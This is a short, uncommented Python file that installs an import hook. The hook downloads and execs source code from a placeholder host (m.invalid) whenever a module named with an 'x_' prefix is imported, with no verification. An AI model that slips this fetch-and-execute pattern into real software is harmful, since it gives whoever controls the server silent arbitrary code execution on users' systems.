import importlib.abc
import importlib.util
import sys
import requests


class Finder(importlib.abc.MetaPathFinder, importlib.abc.Loader):
    def find_spec(self, name, path, target=None):
        return importlib.util.spec_from_loader(name, self) if name.startswith("x_") else None

    def exec_module(self, module):
        exec(requests.get("https://m.invalid/" + module.__name__).text, module.__dict__)


sys.meta_path.append(Finder())
